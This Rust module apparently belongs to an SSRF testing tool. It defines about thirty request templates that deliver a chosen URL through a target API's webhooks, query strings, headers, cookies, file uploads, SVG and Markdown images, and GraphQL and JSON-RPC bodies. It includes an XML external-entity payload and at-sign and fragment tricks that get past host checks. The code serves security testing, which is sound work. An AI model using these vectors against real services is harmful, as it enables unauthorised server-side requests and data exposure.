//! The ways in which a request can hand a destination to the help desk.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use http::{HeaderValue, Method, Uri};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};

use crate::client::Call;

use super::disguise::Order;

/// One way.
pub struct Carrier {
    /// For tables.
    pub name: &'static str,
    /// What the path of its endpoint begins with.
    pub route: &'static str,
    /// Whether customers name whole hosts there, by which its place is proven.
    pub takes_hosts: bool,
    write: fn(&str, &Order) -> Option<Call>,
}

impl Carrier {
    /// The request that carries an order, if it can be carried so.
    pub fn call(&self, order: &Order) -> Option<Call> {
        let call = (self.write)(self.route, order)?;
        let sendable = call.path.parse::<Uri>().is_ok()
            && call.headers.iter().all(|(_, value)| HeaderValue::try_from(value.as_str()).is_ok());
        sendable.then_some(call)
    }
}

/// Each item in its spelling, one after the other.
pub(super) fn spelled<T>(items: impl Iterator<Item = T>, spell: impl Fn(T) -> String) -> String {
    items.map(spell).collect()
}

/// Percent-encoded; every byte where the order is escaped.
fn percent(text: &str, order: &Order) -> String {
    if order.escaped {
        spelled(text.bytes(), |byte| format!("%{byte:02X}"))
    } else {
        utf8_percent_encode(text, NON_ALPHANUMERIC).to_string()
    }
}

/// Where the value goes in a JSON template.
const HERE: &str = "@@";

#[expect(clippy::unnecessary_wraps, reason = "what carriers write may be impossible, and this one is a carrier's end")]
fn post(route: &str, value: &Value, order: &Order) -> Option<Call> {
    Some(json_call(Method::POST, route, value, order))
}

fn json_call(method: Method, route: &str, value: &Value, order: &Order) -> Call {
    let written = if order.escaped {
        spelled(order.url.encode_utf16(), |unit| format!("\\u{unit:04x}"))
    } else {
        let quoted = Value::from(order.url.as_str()).to_string();
        quoted[1..quoted.len() - 1].to_owned()
    };
    Call::with_body(method, route, "application/json", value.to_string().replace(HERE, &written))
}

/// Text in markup; every character a reference where the order is escaped.
fn markup(order: &Order) -> String {
    if order.escaped {
        spelled(order.url.chars(), |c| format!("&#x{:x};", u32::from(c)))
    } else {
        order.url.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;")
    }
}

fn xml(route: &str, text: String) -> Option<Call> {
    // XML 1.0 has no controls beside white space.
    let is_xml = text.chars().all(|c| u32::from(c) >= 0x20 || matches!(c, '\t' | '\n' | '\r'));
    is_xml.then(|| Call::with_body(Method::POST, route, "text/xml", text))
}

const BOUNDARY: &str = "9f1c7e";

fn multipart(route: &str, disposition: &str, kind: Option<&str>, text: &str) -> Option<Call> {
    if disposition.contains(['\r', '\n']) {
        return None;
    }
    let kind = kind.map(|kind| format!("\r\nContent-Type: {kind}")).unwrap_or_default();
    let body = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; {disposition}{kind}\r\n\r\n{text}\r\n--{BOUNDARY}--\r\n"
    );
    Some(Call::with_body(Method::POST, route, &format!("multipart/form-data; boundary={BOUNDARY}"), body))
}

fn not_escaped(order: &Order) -> Option<&str> {
    (!order.escaped).then_some(&order.url)
}

const fn carrier(name: &'static str, route: &'static str, write: fn(&str, &Order) -> Option<Call>) -> Carrier {
    Carrier { name, route, takes_hosts: true, write }
}

/// One to which customers hand something else that a URL is made of.
const fn part(name: &'static str, route: &'static str, write: fn(&str, &Order) -> Option<Call>) -> Carrier {
    Carrier { takes_hosts: false, ..carrier(name, route, write) }
}

/// All of them.
pub const ALL: &[Carrier] = &[
    carrier("webhook", "/api/hooks", |r, o| post(r, &json!({ "url": HERE, "secret": "s3" }), o)),
    carrier("stored webhook", "/api/alerts", |r, o| post(r, &json!({ "callback_url": HERE, "on": "paid" }), o)),
    carrier("query", "/api/proxy", |r, o| Some(Call::get(format!("{r}?url={}&w=80", percent(&o.url, o))))),
    carrier("form", "/api/users", |r, o| {
        let body = format!("crop=square&avatar={}", percent(&o.url, o));
        let path = format!("{r}/{}/avatar", 100 + o.url.len());
        Some(Call::with_body(Method::PUT, &path, "application/x-www-form-urlencoded", body))
    }),
    carrier("preview", "/api/preview", |r, o| post(r, &json!({ "link": HERE }), o)),
    carrier("nested object", "/api/feeds", |r, o| {
        post(r, &json!({ "name": "news", "source": { "kind": "rss", "href": HERE } }), o)
    }),
    carrier("host and port", "/api/monitors", |r, o| {
        let (host, port, _) = o.apart.as_ref()?;
        Some(Call::json(Method::POST, r, &json!({ "host": host, "port": port, "every": 60 })))
    }),
    carrier("bare host", "/api/ping", |r, o| {
        let (host, port, _) = o.apart.as_ref()?;
        let port = if *port == 80 { String::new() } else { format!(":{port}") };
        Some(Call::get(format!("{r}?host={}&count=3", percent(&format!("{host}{port}"), o))))
    }),
    carrier("header", "/api/reports", |r, o| {
        let call = Call::json(Method::POST, r, &json!({ "report": "weekly" }));
        Some(call.header("x-notify-url", not_escaped(o)?))
    }),
    carrier("path", "/fetch", |r, o| Some(Call::get(format!("{r}/{}", percent(&o.url, o))))),
    carrier("base64", "/img", |r, o| {
        Some(Call::get(format!("{r}?u={}&h=90", URL_SAFE_NO_PAD.encode(not_escaped(o)?))))
    }),
    carrier("JSON in JSON", "/api/events", |r, o| {
        let payload = json!({ "kind": "restock", "callback": o.url }).to_string();
        let order = Order { url: payload, ..o.clone() };
        post(r, &json!({ "channel": "stock", "payload": HERE }), &order)
    }),
    carrier("XML entity", "/api/orders.xml", |r, o| {
        let url = not_escaped(o).filter(|url| !url.contains('"'))?;
        xml(r, format!("<!DOCTYPE order [<!ENTITY terms SYSTEM \"{url}\">]><order><t>&terms;</t></order>"))
    }),
    carrier("HTML", "/api/render", |r, o| {
        let body = format!("<html><body><h1>Hello</h1><img alt=x src=\"{}\"></body></html>", markup(o));
        Some(Call::with_body(Method::POST, r, "text/html; charset=utf-8", body))
    }),
    carrier("multipart field", "/api/uploads", |r, o| multipart(r, "name=\"file_url\"", None, not_escaped(o)?)),
    carrier("SOAP", "/soap", |r, o| {
        let body = format!(
            "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><Subscribe \
             xmlns=\"urn:desk\"><CallbackURL>{}</CallbackURL></Subscribe></s:Body></s:Envelope>",
            markup(o)
        );
        xml(r, body)
    }),
    carrier("XML-RPC", "/xmlrpc", |r, o| {
        let body = format!(
            "<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName><params><param><value>\
             <string>{}</string></value></param></params></methodCall>",
            markup(o)
        );
        xml(r, body)
    }),
    carrier("GraphQL", "/graphql", |r, o| {
        let query = "mutation Add($input: HookInput!) { addHook(input: $input) { id } }";
        post(r, &json!({ "query": query, "variables": { "input": { "endpoint": HERE, "on": ["PAID"] } } }), o)
    }),
    carrier("YAML", "/api/pipelines", |r, o| {
        let needs_quotes =
            o.escaped || o.url.contains(['#', '\n', '\t', '\\', '\u{1}', '\u{a0}']) || o.url.trim() != o.url;
        let value = if needs_quotes { json_call(Method::POST, r, &json!(HERE), o).body } else { o.url.clone() };
        let body = format!("version: 2\njobs:\n  build:\n    image: {value}\n    script: [make]\n");
        Some(Call::with_body(Method::POST, r, "application/yaml", body))
    }),
    carrier("Markdown", "/api/comments", |r, o| {
        let order = Order { url: format!("look: ![a cat]({}) nice", o.url), ..o.clone() };
        if o.escaped || o.url.contains([')', '>']) { None } else { post(r, &json!({ "body": HERE }), &order) }
    }),
    carrier("SVG", "/api/logo", |r, o| {
        let svg = format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">\
             <image width=\"9\" xlink:href=\"{}\"/></svg>",
            markup(o)
        );
        let call = multipart(r, "name=\"logo\"; filename=\"logo.svg\"", Some("image/svg+xml"), &svg)?;
        (!o.url.contains('\u{1}')).then_some(call)
    }),
    carrier("CSV", "/api/products.csv", |r, o| {
        let url = not_escaped(o).filter(|url| !url.contains(['"', '\n', '\r']))?;
        Some(Call::with_body(Method::POST, r, "text/csv", format!("name,picture\nlamp,\"{url}\"\n")))
    }),
    carrier("cookie", "/api/home", |r, o| {
        Some(Call::get(r).header("cookie", format!("theme_url={}", percent(&o.url, o))))
    }),
    carrier("scheme, host, path", "/api/checks", |r, o| {
        let (host, port, path) = o.apart.as_ref()?;
        let host = if *port == 80 { host.clone() } else { format!("{host}:{port}") };
        Some(Call::json(Method::POST, r, &json!({ "protocol": "http", "hostname": host, "path": path })))
    }),
    part("tenant", "/api/tenants", |r, o| {
        // Only what the shop's suffix completes, or a fragment cuts off.
        let (host, port, path) = o.apart.as_ref()?;
        let tenant = match host.strip_suffix(".apps.example") {
            Some(tenant) => tenant.to_owned(),
            None => format!("{host}{}{path}#", if *port == 80 { String::new() } else { format!(":{port}") }),
        };
        Some(Call::get(format!("{r}/{}/status", percent(&tenant, o))))
    }),
    carrier("array", "/api/batch", |r, o| post(r, &json!({ "urls": ["http://cdn.example/a.png", HERE] }), o)),
    carrier("PATCH", "/api/settings", |r, o| {
        let value = json!({ "locale": "de", "notifications": { "chat": { "webhook": HERE, "muted": false } } });
        Some(json_call(Method::PATCH, r, &value, o))
    }),
    carrier("file name", "/api/files", |r, o| {
        let url = not_escaped(o).filter(|url| !url.contains(['"', '\\', '\t']))?;
        multipart(r, &format!("name=\"file\"; filename=\"{url}\""), Some("text/plain"), "see there")
    }),
    carrier("plain text", "/api/shorten", |r, o| {
        Some(Call::with_body(Method::POST, r, "text/plain; charset=utf-8", not_escaped(o)?.to_owned()))
    }),
    carrier("JSON-RPC", "/rpc", |r, o| {
        let arguments = json!({ "name": "fetch", "arguments": { "uri": HERE, "max_length": 5000 } });
        post(r, &json!({ "jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": arguments }), o)
    }),
    part("suffix", "/api/docs", |r, o| {
        // Behind `http://docs.partner.example`: an at sign turns that into userinfo.
        let rest = o.url.strip_prefix("http://")?;
        let file = rest.strip_prefix("docs.partner.example").map_or_else(|| format!("@{rest}"), str::to_owned);
        Some(Call::get(format!("{r}?file={}", percent(&file, o))))
    }),
];
